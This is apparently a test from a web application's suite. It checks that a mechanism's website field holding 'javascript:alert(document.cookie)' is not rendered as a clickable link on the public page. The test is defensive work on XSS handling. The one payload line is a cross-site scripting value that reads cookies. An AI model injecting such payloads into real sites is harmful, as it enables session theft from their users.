test('a mechanism website cannot be a javascript: URL rendered as a link', async () => {
  const sec = await ctx.as('secretariat');
  await sec.request('/api/v1/mechanisms', {
    json: {
      slug: 'leak-xss',
      name: 'Leak mechanism',
      parentOrganisation: 'Test org',
      kind: 'forum',
      mandateText: 'A forum that exists only to test that links are safe for every reader.',
      mandateSource: 'test',
      website: 'javascript:alert(document.cookie)',
    },
  });
  const page = await (await (await ctx.as('public')).request('/mechanisms/leak-xss')).text();
  assert.doesNotMatch(page, /href="javascript:/i);
});
